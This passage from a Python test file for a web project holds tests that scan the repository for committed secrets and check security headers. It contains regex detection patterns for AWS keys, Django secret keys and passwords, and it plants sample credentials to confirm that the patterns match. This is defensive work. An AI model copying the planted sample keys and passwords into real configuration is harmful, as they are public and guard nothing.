    "AWS secret key": re.compile(r"aws_secret_access_key\s*[=:]\s*\S{20,}", re.I),
    "secret key": re.compile(r"SECRET_KEY[\"']?\s*[=:]\s*[\"'][^\"']{8,}[\"']"),
    "secret key in the environment": re.compile(r"STEER_SECRET_KEY=[\"']?[A-Za-z0-9_\-]{20,}"),
    "password": re.compile(
        r"(?:password|passwd|pwd|mat_?khau)\w*[\"']?\s*[=:]\s*[\"']([^\"'\s{}%]{6,})[\"']", re.I
    ),
}
# The demo password is published (README): it works only in demo mode, on demo accounts.
ALLOWED_PASSWORDS = {DEMO_PASSWORD}
# Test code signs in throwaway users on throwaway servers: its passwords and keys guard nothing.
# Private and cloud keys are refused there too.
TEST_CODE = ("tests/", "browser_tests/")
THROWAWAY_KINDS = {"password", "secret key", "secret key in the environment"}


def repository_files() -> list[Path]:
    listed = subprocess.run(
        ["git", "ls-files", "--cached", "--others", "--exclude-standard", "-z"],
        cwd=ROOT,
        capture_output=True,
        check=True,
    ).stdout.decode()
    return [ROOT / name for name in listed.split("\0") if name and (ROOT / name).is_file()]


def test_no_secret_is_in_the_repository():
    found = []
    for path in repository_files():
        if path.suffix in {".mo", ".png", ".gz", ".xlsx", ".docx", ".pdf", ".ico", ".woff2"}:
            continue
        try:
            text = path.read_text(encoding="utf-8")
        except UnicodeDecodeError:
            continue
        relative = path.relative_to(ROOT).as_posix()
        for number, line in enumerate(text.splitlines(), start=1):
            # A marked throwaway value (detect-secrets' convention), with its reason beside it.
            if "pragma: allowlist secret" in line:
                continue
            for kind, pattern in SECRETS.items():
                match = pattern.search(line)
                if not match:
                    continue
                if kind == "password" and match.group(1) in ALLOWED_PASSWORDS:
                    continue
                if kind in THROWAWAY_KINDS and relative.startswith(TEST_CODE):
                    continue
                found.append(f"{relative}:{number}: {kind}")
    assert found == []


def test_the_scan_finds_a_planted_secret():
    # Put together here so that this file itself holds none of them.
    planted = {
        "secret key": "SECRET" + '_KEY = "django-insecure-9x!k2v@7m#q4"',
        "private key": "-----BEGIN OPENSSH " + "PRIVATE KEY-----",
        "AWS access key": "aws_key = AKIA" + "IOSFODNN7EXAMPLE",
        "password": "DB_PASS" + 'WORD = "Hanoi@2025"',
        "secret key in the environment": "STEER_SECRET" + "_KEY=Zx81kLmq0Pv7RtY2sWn4Bc6Df9",
    }
    for kind, line in planted.items():
        assert SECRETS[kind].search(line), line
    demo = SECRETS["password"].search(f'DEMO_PASSWORD = "{DEMO_PASSWORD}"')
    assert demo.group(1) in ALLOWED_PASSWORDS


def test_the_generated_secret_key_lives_in_the_git_ignored_var_directory():
    paths = ["var/secret-key", "var/steer.sqlite3", "var/media/evidence/x.pdf"]
    ignored = subprocess.run(
        ["git", "check-ignore", *paths], cwd=ROOT, capture_output=True, text=True
    )
    assert ignored.stdout.split() == paths
    assert "var/secret-key" not in [p.relative_to(ROOT).as_posix() for p in repository_files()]


# -- 9. security headers --------------------------------------------------------------------


@pytest.mark.parametrize("page", [f"{P}/", LOGIN, "/health/"])
def test_responses_carry_the_security_headers(login, page):
    response = login("xem.thuongtin").get(page)
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"
    assert response["X-Frame-Options"] == "DENY"
    assert response["Cross-Origin-Opener-Policy"] == "same-origin"
